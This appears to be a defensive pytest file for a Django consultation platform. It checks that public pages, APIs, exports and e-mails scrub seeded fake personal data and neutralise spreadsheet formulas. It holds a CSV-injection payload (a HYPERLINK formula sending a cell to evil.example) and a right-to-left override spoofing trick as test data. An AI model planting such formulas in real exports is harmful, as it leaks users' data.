"""One poisoned contribution, every output read: nothing personal leaks, no formula runs.

A citizen's proposal and open answer carry a phone (two formats), a NIR, two obfuscated e-mails, a dashed
IBAN, an abbreviated street address with postal code and town, a spreadsheet formula at the start and a
right-to-left override; in the second case also a health disclosure. They were stored as typed (as rows
written before the input rules existed, or by a bulk import, would be), and the synthesis was computed by
an older version of the scrubbing rules that let all of it through (a stale run): the outputs must still
be clean, because every one of them takes the text from ``consultation.publish.public_text``.

``PRODUCERS`` lists every output that publishes contributions. A new route in the public namespaces must
be added to it, or to ``ROUTES_WITHOUT_CONTRIBUTION_TEXT`` with the reason, or the suite fails. The citizen
panels' texts (recommendations, amendments, answers, milestones) are read the same way by the sibling
``test_published_panel_outputs``, which classifies the ``deliberation`` routes.
"""

import csv
import html
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from django.core import mail
from django.urls import get_resolver, reverse
from django.utils import timezone

from analysis import services as analysis_services
from analysis.models import Contribution, OpinionRun, PipelineRun, SynthesisVersion, Theme
from analysis.pipeline.clean import clean_text
from analysis.synthesis import initial_data
from consultation import opendata
from consultation.models import Answer, Consultation, Proposal, Question
from consultation.notifications import send_moderation_notice
from tests.analysis.conftest import html_handed_to_weasyprint
from tests.factories import UserFactory
from textsafety.spreadsheet import FORMULA_STARTS

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'
POISON = (
    f"{FORMULA} Appelez le 06/12/34/56/78 ou le +33 (0)7 11 22 33 44, mon NIR 1-85-05-78-006-084-36, "
    "écrivez à jean.dupont @ gmail.com ou à zorglub(at)exemple.com, virez sur "
    "FR76-3000-6000-0112-3456-7890-189, je vis au 12, r. de la Paix 75002 Paris. "
    "\u202egpj.exe\u202c Le partage des données doit rester un choix."
)
HEALTH = " Je suis diabétique depuis 2010, mon fils a un cancer."
SECRETS = [
    "06/12/34/56/78",
    "0612345678",
    "(0)7 11 22 33 44",
    "1-85-05-78-006-084-36",
    "jean.dupont",
    "zorglub",
    "FR76-3000",
    "3456-7890",
    "r. de la Paix",
    "75002 Paris",
    "\u202e",
    "\u202c",
    "diabétique",
    "cancer",
]
SLUG = "poison"


def _stale_row(run, position, source_type, source_id, raw, theme):
    """A contribution row as the scrubbing rules of version 1 left it: the text as typed."""
    return Contribution.objects.create(
        run=run, position=position, source_type=source_type, source_id=source_id, text=raw,
        text_hash=f"{position:064x}", clean_key=f"1:5000:{position:064x}", health_flag=False,
        votes={"agree": 3, "disagree": 1, "pass": 0}, theme=theme, x=float(position), y=1.0,
        duplicate_group=position,
    )  # fmt: skip


def _fresh_row(run, position, source_type, source_id, raw, theme):
    """A contribution row as the current pipeline writes it (tasks.prepare_run)."""
    cleaned = clean_text(raw)
    return Contribution.objects.create(
        run=run, position=position, source_type=source_type, source_id=source_id, text=cleaned.text,
        text_hash=f"{position:064x}", clean_key=f"{cleaned_rules()}:5000:{position:064x}",
        health_flag=cleaned.health_flag, scrubbed=list(cleaned.scrubbed),
        votes={"agree": 3, "disagree": 1, "pass": 0}, theme=theme, x=float(position), y=2.0,
        duplicate_group=position,
    )  # fmt: skip


def cleaned_rules():
    from textsafety.scrub import RULES_VERSION

    return RULES_VERSION


@pytest.fixture(params=["personal-data", "personal-data-and-health"])
def poisoned(request, db):
    """A closed consultation with the poisoned proposal and answer, a neighbour proposal, a published
    synthesis quoting them (one stale row and one fresh row each) and opinion groups citing the proposal."""
    text = POISON + (HEALTH if request.param.endswith("health") else "")
    author = UserFactory(roles=["citizen"], email="auteur@example.org")
    consultation = Consultation.objects.create(slug=SLUG, title_fr="Consultation empoisonnée", phase="open")
    question = Question.objects.create(consultation=consultation, kind="open", text_fr="Votre avis ?")
    poisoned = Proposal.objects.create(
        consultation=consultation, author=author, author_key=f"u{author.pk}", text=text,
        status=Proposal.Status.VISIBLE, moderated_at=timezone.now(), language="fr",
    )  # fmt: skip
    neighbour = Proposal.objects.create(
        consultation=consultation, author_key="import:x", status=Proposal.Status.VISIBLE,
        text="Le partage des données doit rester un choix libre.",
    )  # fmt: skip
    answer = Answer.objects.create(question=question, user=author, text=text)
    run = PipelineRun.objects.create(consultation=consultation, status=PipelineRun.Status.DONE)
    themes = [
        Theme.objects.create(run=run, number=i, label=f"Thème {i}", keywords=["données"]) for i in (0, 1)
    ]
    rows = [
        _stale_row(run, 0, Contribution.Source.PROPOSAL, poisoned.pk, text, themes[0]),
        _stale_row(run, 1, Contribution.Source.ANSWER, answer.pk, text, themes[0]),
        _fresh_row(run, 2, Contribution.Source.PROPOSAL, neighbour.pk, neighbour.text, themes[1]),
    ]
    for theme in themes:
        # Quotes stored by the old run: the typed text itself.
        theme.quotes = [{"id": c.pk, "text": c.text} for c in rows if c.theme_id == theme.pk]
        theme.summary = f"Résumé : {text}" if theme.number == 0 else ""
        theme.save(update_fields=["quotes", "summary"])
    version = SynthesisVersion.objects.create(run=run, number=1, action="pipeline", data=initial_data(run))
    analysis_services.publish_version(actor=None, version=version)
    statement = {"direction": "agree", "n_success": 2, "n_trials": 2, "p_success": 0.75}
    OpinionRun.objects.create(
        consultation=consultation, vote_count=8, status="ok",
        result={
            "status": "ok",
            "groups": [{"group": g, "size": 2, "representative": [{**statement, "proposal": poisoned.pk}]}
                       for g in (0, 1)],
            "participants": [{"participant": f"p{i}", "group": i % 2, "x": float(i), "y": 0.0, "n_votes": 2}
                             for i in range(4)],
            "consensus_agree": [{**statement, "proposal": poisoned.pk}],
            "consensus_disagree": [],
            "bridging": [{"proposal": poisoned.pk, "agree_counts": [2, 1], "seen_counts": [2, 2]}],
            "proposal_groups": {str(poisoned.pk): [[2, 0, 0], [1, 1, 0]],
                                str(neighbour.pk): [[1, 0, 0], [0, 1, 0]]},
        },
    )  # fmt: skip
    consultation.phase = Consultation.Phase.CLOSED
    consultation.save(update_fields=["phase"])
    return {
        "consultation": consultation,
        "proposal": poisoned,
        "author": author,
        "health": "health" in request.param,
    }


# --- The producers: each returns {output name: text} and {csv name: rows} --------------------------------


def _csv_rows(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data)))


def open_data_archive(client, ctx, monkeypatch):
    archive = zipfile.ZipFile(io.BytesIO(opendata.build_archive(ctx["consultation"])))
    texts = {f"open-data/{name}": archive.read(name).decode() for name in archive.namelist()}
    tables = {name: _csv_rows(text) for name, text in texts.items() if name.endswith(".csv")}
    return texts, tables


def public_api(client, ctx, monkeypatch):
    texts = {}
    for name in ("api-proposals", "api-votes", "api-questions", "api-consultation"):
        for query in ("", "?order=agreed", "?order=newest"):
            response = client.get(reverse(name, args=[SLUG]) + query)
            assert response.status_code == 200, (name, query)
            texts[f"{name}{query}"] = json.dumps(response.json(), ensure_ascii=False)
    return texts, {}


def proposals_pages(client, ctx, monkeypatch):
    texts = {}
    for order in ("random", "agreed", "divisive", "newest"):
        response = client.get(reverse("consultation:proposals", args=[SLUG]) + f"?order={order}")
        assert response.status_code == 200
        texts[f"proposals?order={order}"] = response.content.decode()
    return texts, {}


def similar_proposals_preview(client, ctx, monkeypatch):
    from consultation import services

    consultation = ctx["consultation"]
    Consultation.objects.filter(pk=consultation.pk).update(phase=Consultation.Phase.OPEN)
    consultation.refresh_from_db()
    reader = UserFactory(roles=["citizen"])
    services.accept_charter(user=reader, consultation=consultation)
    client.force_login(reader)
    draft = "Appelez le numéro, écrivez un courriel : le partage des données doit rester un choix."
    response = client.post(reverse("consultation:propose", args=[SLUG]), {"text": draft, "step": "preview"})
    client.logout()
    Consultation.objects.filter(pk=consultation.pk).update(phase=Consultation.Phase.CLOSED)
    assert response.status_code == 200
    return {"similar-proposals preview": response.content.decode()}, {}


def report_page(client, ctx, monkeypatch):
    client.force_login(UserFactory(roles=["citizen"]))
    response = client.get(reverse("consultation:report", args=[SLUG, ctx["proposal"].pk]))
    client.logout()
    assert response.status_code == 200
    return {"report-a-proposal page": response.content.decode()}, {}


def proposal_page(client, ctx, monkeypatch):
    response = client.get(reverse("consultation:proposal", args=[SLUG, ctx["proposal"].pk]))
    assert response.status_code in (200, 404)  # 404: a proposal the exit withholds has no page
    return {"proposal page": response.content.decode()}, {}


def synthesis_page(client, ctx, monkeypatch):
    response = client.get(reverse("analysis:report", args=[SLUG]))
    assert response.status_code == 200
    return {"synthesis page": response.content.decode()}, {}


def synthesis_pdf(client, ctx, monkeypatch):
    return {"synthesis PDF (its HTML)": html_handed_to_weasyprint(client, SLUG, monkeypatch)}, {}


def synthesis_exports(client, ctx, monkeypatch):
    texts, tables = {}, {}
    for name in ("analysis:export_contributions", "analysis:export_themes"):
        for fmt in ("csv", "json"):
            response = client.get(reverse(name, args=[SLUG, fmt]))
            assert response.status_code == 200, (name, fmt)
            body = response.content.decode()
            key = f"{name}.{fmt}"
            texts[key] = body if fmt == "csv" else json.dumps(json.loads(body), ensure_ascii=False)
            if fmt == "csv":
                tables[key] = _csv_rows(body)
    return texts, tables


def transparency_page(client, ctx, monkeypatch):
    """The moderators' reasons are shown there: a proposal hidden with a reason quoting the contribution
    (a moderator's slip) must come out scrubbed."""
    from consultation.models import Proposal as P

    hidden = P.objects.create(consultation=ctx["consultation"], text="Autre.", author_key="import:h")
    P.objects.filter(pk=hidden.pk).update(status=P.Status.HIDDEN, hide_reason=POISON[:300])
    response = client.get(reverse("analysis:transparency", args=[SLUG]))
    assert response.status_code == 200
    return {"transparency page": response.content.decode()}, {}


def moderation_email(client, ctx, monkeypatch):
    mail.outbox.clear()
    assert send_moderation_notice(ctx["proposal"].pk, Proposal.Status.VISIBLE)
    message = mail.outbox[-1]
    return {"moderation e-mail": f"{message.subject}\n{message.body}"}, {}


def followup_page(client, ctx, monkeypatch):
    """The follow-up page and the proposal page once the poisoned proposal must be answered and was, with a
    justification and a milestone that quote it (an organiser's text drawn from a contribution), and a
    theme was too."""
    from datetime import date

    from analysis.theme_answers import record_theme_answer
    from consultation import answers

    organiser = UserFactory(roles=["citizen", "organiser"])
    Proposal.objects.filter(pk=ctx["proposal"].pk).update(agree_count=3, disagree_count=1)
    answers.save_answer_policy(
        actor=organiser, consultation=ctx["consultation"], proposals_required=True,
        proposal_min_agree_percent=50, proposal_min_votes=1, themes_required=True, theme_min_percent=0,
        answers_due_on=None,
    )  # fmt: skip
    fields = {
        "decision_maker": "Ministre", "body": "Ministère", "status": "adopted",
        "justification": f"Nous reprenons : « {POISON} »", "answered_on": date.today(),
        "milestones": [(POISON[:200], None)],  # a promised step that quotes it too
    }  # fmt: skip
    answers.record_proposal_answer(
        actor=organiser, proposal=Proposal.objects.get(pk=ctx["proposal"].pk), **fields
    )
    theme = Theme.objects.filter(run__consultation=ctx["consultation"], number=0, parent=None).first()
    record_theme_answer(actor=organiser, theme=theme, **fields)
    texts = {}
    for name, args in (("consultation:followup", [SLUG]), ("consultation:followup_all", [])):
        response = client.get(reverse(name, args=args))
        assert response.status_code == 200
        texts[name] = response.content.decode()
    response = client.get(reverse("consultation:proposal", args=[SLUG, ctx["proposal"].pk]))
    assert response.status_code in (200, 404)
    texts["proposal page with its answer"] = response.content.decode()
    return texts, {}


PRODUCERS = [
    followup_page,
    open_data_archive,
    public_api,
    proposals_pages,
    similar_proposals_preview,
    report_page,
    synthesis_page,
    synthesis_pdf,
    synthesis_exports,
    moderation_email,
    proposal_page,
    transparency_page,
]

# Route names -> producer above (the routes that publish contributions' text).
ROUTES_PUBLISHING = {
    "consultation:open_data_download": open_data_archive,  # serves the archive build_archive made
    "api-proposals": public_api,
    "api-votes": public_api,
    "api-questions": public_api,
    "api-consultation": public_api,
    "consultation:proposals": proposals_pages,
    "consultation:propose": similar_proposals_preview,
    "consultation:report": report_page,
    "consultation:proposal": proposal_page,
    "consultation:followup": followup_page,
    "consultation:followup_all": followup_page,
    "analysis:report": synthesis_page,
    "analysis:report_pdf": synthesis_pdf,
    "analysis:export_contributions": synthesis_exports,
    "analysis:export_themes": synthesis_exports,
    "analysis:transparency": transparency_page,
}
# Routes in the same namespaces that publish no contribution text, and why.
ROUTES_WITHOUT_CONTRIBUTION_TEXT = {
    "consultation:vote": "a vote; answers with counts only",
    "consultation:list": "consultations' titles",
    "consultation:mine": "the signed-in author's own contributions, shown to them only",
    "analysis:recommendation_themes": "the panel team's form linking a recommendation to theme titles",
    "consultation:moderation": "moderators' queue (staff, raw text on purpose)",
    "consultation:moderate": "moderators' decision",
    "consultation:create": "organisers' form",
    "consultation:detail": "the consultation's context, charter and the reader's own questionnaire",
    "consultation:accept_charter": "form",
    "consultation:answer": "form",
    "consultation:discard_answers_draft": "form",
    "consultation:withdraw_answers": "form",
    "consultation:results": "closed questions' counts",
    "consultation:open_data": "the archive's page: links and progress",
    "consultation:open_data_progress": "progress figures",
    "consultation:manage": "organisers' form",
    "consultation:change_phase": "organisers' form",
    "consultation:charter": "organisers' form",
    "consultation:questions": "organisers' questions",
    "consultation:delete_question": "organisers' form",
    "consultation:question_required": "organisers' form",
    "consultation:import": "organisers' import page",
    "consultation:import_progress": "progress figures",
    "api-root": "links",
    "api-consultations": "consultations' titles",
    "api-schema": "the schema",
    "api-docs": "the documentation",
    "analysis:runs": "organisers' runs",
    "analysis:run": "organisers' run page",
    "analysis:run_progress": "progress figures",
    "analysis:run_resume": "organisers' form",
    "analysis:editor": "organisers' editor (staff; flagged texts for those who may see them)",
    "analysis:editor_move": "organisers' form",
    "analysis:publish": "organisers' form",
    "consultation:answer_policy": "organisers' form",
    "consultation:answer_proposal": "organisers' form (the proposal by its public text)",
    "analysis:answer_theme": "organisers' form (the theme by its label)",
    "consultation:proposal_milestone": "organisers' form",
    "analysis:theme_milestone": "organisers' form",
    "analysis:dashboard": "organisers' dashboard: counts and shares, no text",
    "analysis:dashboard_csv": "organisers' dashboard figures: counts and shares, no text",
    "analysis:consultation_dashboard": "organisers' dashboard: counts and shares, no text",
    "analysis:consultation_dashboard_csv": "organisers' dashboard figures: counts and shares, no text",
}


def _route_names(namespaces=("consultation", "analysis"), prefix="api-"):
    resolver = get_resolver()
    names = {n for n in resolver.reverse_dict if isinstance(n, str) and n.startswith(prefix)}
    for namespace in namespaces:
        if namespace in resolver.namespace_dict:
            _prefix, sub = resolver.namespace_dict[namespace]
            names |= {f"{namespace}:{n}" for n in sub.reverse_dict if isinstance(n, str)}
    return names


def test_every_public_route_is_classified_as_publishing_contributions_or_not():
    """A new exporter (or page) in these namespaces must join PRODUCERS, or say why it publishes none."""
    unknown = _route_names() - set(ROUTES_PUBLISHING) - set(ROUTES_WITHOUT_CONTRIBUTION_TEXT)
    assert unknown == set()
    assert set(ROUTES_PUBLISHING.values()) <= set(PRODUCERS)


def test_no_code_writes_csv_but_through_the_safe_writer():
    root = Path(__file__).resolve().parent.parent
    offenders = [
        str(path.relative_to(root))
        for folder in ("accounts", "consultation", "deliberation", "analysis", "config")
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.django_db
@pytest.mark.parametrize("producer", PRODUCERS, ids=lambda p: p.__name__)
def test_no_output_leaks_the_poisoned_contribution(producer, poisoned, client, monkeypatch):
    texts, tables = producer(client, poisoned, monkeypatch)
    assert texts
    for name, text in texts.items():
        readable = html.unescape(text)
        leaked = [s for s in SECRETS if s in readable]
        assert leaked == [], f"{name} leaks {leaked}"
    for name, rows in tables.items():
        formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
        assert formulas == [], f"{name} holds cells a spreadsheet would run: {formulas}"


@pytest.mark.django_db
def test_the_outputs_still_say_what_the_contribution_said(poisoned, client, monkeypatch):
    """Scrubbed, not emptied (unless the text reveals someone's health: then withheld everywhere)."""
    texts, _tables = synthesis_exports(client, poisoned, monkeypatch)
    api, _ = public_api(client, poisoned, monkeypatch)
    archive, tables = open_data_archive(client, poisoned, monkeypatch)
    answers = [row for row in tables["open-data/answers.csv"][1:] if row[1]]
    if poisoned["health"]:
        assert (
            "Le partage des données doit rester un choix." not in texts["analysis:export_contributions.json"]
        )
        assert answers and all(row[3] == "" for row in answers)
        assert "[phone]" not in api["api-proposals"]
    else:
        for kind in ("[phone]", "[nir]", "[email]", "[iban]", "[address]"):
            assert kind in texts["analysis:export_contributions.csv"]
            assert kind in api["api-proposals"]
            assert kind in archive["open-data/answers.csv"]
        assert "Le partage des données doit rester un choix." in archive["open-data/proposals.csv"]
        assert "'=HYPERLINK" in archive["open-data/proposals.csv"]  # shown as text, not run


@pytest.mark.django_db
def test_a_withheld_proposal_is_listed_with_a_notice_and_no_vote(poisoned, client):
    from consultation import services

    if not poisoned["health"]:
        pytest.skip("only a health disclosure withholds a proposal")
    consultation = poisoned["consultation"]
    Consultation.objects.filter(pk=consultation.pk).update(phase=Consultation.Phase.OPEN)
    reader = UserFactory(roles=["citizen"])
    services.accept_charter(user=reader, consultation=Consultation.objects.get(pk=consultation.pk))
    client.force_login(reader)
    page = html.unescape(client.get(reverse("consultation:proposals", args=[SLUG])).content.decode())
    withheld = poisoned["proposal"].pk
    neighbour = Proposal.objects.exclude(pk=withheld).get(consultation=consultation).pk
    assert "Proposition non affichée" in page or "Proposal not shown" in page
    assert f'id="proposal-{withheld}"' in page
    assert reverse("consultation:vote", args=[SLUG, withheld]) not in page
    assert reverse("consultation:vote", args=[SLUG, neighbour]) in page


@pytest.mark.django_db
def test_the_author_is_told_when_the_public_does_not_see_their_proposal(poisoned, client):
    client.force_login(poisoned["author"])
    page = html.unescape(client.get(reverse("consultation:mine")).content.decode())
    told = "Non montrée au public" in page or "Not shown to the public" in page
    assert told == poisoned["health"]
    assert "06/12/34/56/78" in page  # their own words, as they wrote them
